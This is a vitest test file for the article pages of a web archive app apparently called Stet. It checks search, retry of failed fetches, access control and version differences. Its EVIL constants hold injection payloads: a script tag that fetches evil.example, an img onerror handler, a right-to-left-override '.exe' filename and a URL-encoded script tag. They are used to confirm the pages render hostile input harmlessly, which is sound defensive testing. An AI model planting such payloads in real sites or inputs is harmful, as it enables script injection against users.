import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { computeArticleId } from '../../../src/catalog/articles/article-aliases.ts'
import { importLedger } from '../../../src/catalog/import/import-ledger.ts'
import { expectHarmless, getPage } from './parsed-page.ts'
import { EDITED, HOSTILE, LOST, QUOTING } from './posts.ts'
import { pagesWorld, type World } from './world.ts'

const EVIL =
  '"><script>fetch("https://evil.example/")</script><img src=x onerror=alert(1)>\u202egnp.exe\u2066'
const URL_EVIL = 'https://news.example/%22%3E%3Cscript%3E?a="><b>'
const FAILED_URL = 'https://news.example/unreadable'

const cite = (post: { id: string; url: string; text: string | null }, n: number) => ({
  platform: 'x' as const,
  id: post.id,
  url: post.url,
  role: 'embed' as const,
  form: 'blockquote',
  author: { name: EVIL, handle: EVIL },
  text: post.text,
  publishedOn: '2026-03-01',
  links: [],
  quote: '<blockquote>…</blockquote>',
  start: n * 100,
  end: n * 100 + 50,
})
const WAITING = {
  id: '1900000000000000777',
  url: 'https://x.com/i/status/1900000000000000777',
  text: `Wait for me ${EVIL}`,
}

describe('articles', () => {
  let world: World
  let id = ''
  let failed = ''
  beforeAll(async () => {
    world = await pagesWorld()
    const { app } = world
    const { db } = await app.catalog()
    const ledger = await app.ledger()
    const version = (recordedAt: string, sha: string, posts: readonly Parameters<typeof cite>[0][]) =>
      ledger.writeArticle({
        url: URL_EVIL,
        title: `Ålesund harbour ${EVIL}`,
        author: EVIL,
        publishedAt: '2026-03-02T07:00:00Z',
        recordedAt,
        bodySha256: sha.repeat(32),
        bodyBytes: 10,
        citations: posts.map(cite),
      })
    await version('2026-03-02T08:00:00Z', 'cd', [LOST, QUOTING])
    await version('2026-03-03T08:00:00Z', 'ef', [WAITING, LOST, HOSTILE, EDITED.now])
    await importLedger({ db, ledger, clock: app.clock })
    const now = new Date()
    failed = computeArticleId(FAILED_URL)
    await db
      .insertInto('articles')
      .values({ id: failed, url: FAILED_URL, title: null, created_at: now, updated_at: now })
      .execute()
    await db
      .insertInto('intake')
      .values({
        id: 'failed-1',
        kind: 'article',
        article_id: failed,
        url: FAILED_URL,
        priority: 'normal',
        state: 'done',
        body: Buffer.from('<p>What the sender sent.</p>'),
        format: 'html',
        error: JSON.stringify({ code: 'http-404', message: `The page answers 404 ${EVIL}` }),
        created_at: now,
        updated_at: now,
      })
      .execute()
    const row = await db
      .selectFrom('articles')
      .select('id')
      .where('url', 'like', '%script%')
      .executeTakeFirstOrThrow()
    id = row.id
  })
  afterAll(() => world?.[Symbol.asyncDispose]())
  const page = (path: string, token = world.admin.token) => getPage(world, token, path)
  const titles = async (path: string) => (await page(path)).all('h3').map(({ text }) => text)

  it('are listed with their numbers, and found by words of title, author and URL', async () => {
    const list = await page('/articles')
    expectHarmless(list)
    const rows = list.all('article').map(({ text }) => text)
    expect(rows.find((text) => text.includes('Ålesund'))).toMatch(
      /2 March 2026 · news\.example.*4 embeds 3 kept 1 lost/,
    )
    for (const q of ['alesund', 'HARBOUR example ålesund', 'lesun', 'news.example harbour'])
      expect(await titles(`/articles?q=${encodeURIComponent(q)}`), q).toEqual([
        expect.stringContaining('Ålesund'),
      ])
    expect(await titles('/articles?q=crane')).toEqual(['The day the crane fell'])
    expect(await titles('/articles?q=nowhere')).toEqual([])
    expect((await titles('/articles?lost=true')).length).toBe(2)
    expect((await titles('/articles?lost=true&q=crane')).length).toBe(1)
    const answer = await fetch(`${world.origin}/posts?q=${encodeURIComponent(FAILED_URL)}`, {
      redirect: 'manual',
      headers: { accept: 'text/html', authorization: `Bearer ${world.reader.token}` },
    })
    expect(answer.headers.get('location')).toBe(`/articles/${failed}`)
  })

  it('that could not be read say why, and are sent again with the body that was sent', async () => {
    const list = await page('/articles?state=failed')
    expectHarmless(list)
    expect(list.all('article').map(({ text }) => text)).toEqual([
      expect.stringMatching(/http-404 : The page answers 404.*could not be read/),
    ])
    const shown = await page(`/articles/${failed}`)
    expectHarmless(shown)
    expect(shown.text).toContain('Stet could not read this article ( http-404 )')
    expect(shown.text).toContain('Stet does not try again by itself.')
    const send = async (token: string) =>
      await fetch(`${world.origin}/articles/${failed}/again`, {
        method: 'POST',
        redirect: 'manual',
        headers: { accept: 'text/html', authorization: `Bearer ${token}` },
      })
    expect((await page(`/articles/${failed}`, world.reader.token)).text).not.toContain('Send again')
    expect((await send(world.reader.token)).status).toBe(403)
    const answer = await send(world.admin.token)
    expect([answer.status, answer.headers.get('location')]).toEqual([303, `/articles/${failed}`])
    const { db } = await world.app.catalog()
    const again = await db
      .selectFrom('intake')
      .select(['state', 'body', 'format', 'sender'])
      .where('article_id', '=', failed)
      .orderBy('created_at', 'desc')
      .executeTakeFirstOrThrow()
    expect([again.state, Buffer.from(again.body ?? []).toString(), again.format, again.sender]).toEqual([
      'queued',
      '<p>What the sender sent.</p>',
      'html',
      world.admin.id,
    ])
    expect((await page(`/articles/${failed}`)).text).toContain('queued')
  })

  it('show captured posts first with their own words, and label the words of the article', async () => {
    const shown = await page(`/articles/${id}`)
    expectHarmless(shown)
    const cited = shown.all('article').map(({ text }) => text)
    expect(cited).toHaveLength(4)
    expect(cited[0]).toContain('lost: deleted by its author')
    expect(cited[0]).toContain(LOST.text ?? '')
    expect(cited[0]).not.toContain('as the article quotes it')
    expect(cited[3]).toContain('not captured yet')
    expect(cited[3]).toContain('Wait for me')
    expect(cited[3]).toContain('as the article quotes it; not confirmed by X')
    expect(shown.text).toContain('4 embeds 3 kept 1 lost')
  })

  it('lend their words to posts that are not captured yet, after those that are', async () => {
    const posts = await page('/posts')
    expectHarmless(posts)
    const rows = posts.all('article').map(({ text }) => text)
    expect(rows.at(-1)).toMatch(/not captured yet.*Wait for me.*quotes it, not confirmed/)
    expect(rows.slice(0, -1).some((text) => text.includes('not captured yet'))).toBe(false)
  })

  it('show what each version cites that the one before did not', async () => {
    const shown = await page(`/articles/${id}`)
    const versions = shown.all('li').filter(({ text }) => /^\d+ March 2026, 08:00 UTC/.test(text))
    expect(versions.map(({ text }) => text.replace(/ [0-9a-f]{16}…/, ''))).toEqual([
      expect.stringMatching(
        /Cites 4 posts; its words changed.*\+ added: .*− no longer cited: Mira Holt @mira_holt \(X\)$/,
      ),
      '2 March 2026, 08:00 UTC Cites 2 posts',
    ])
  })
})
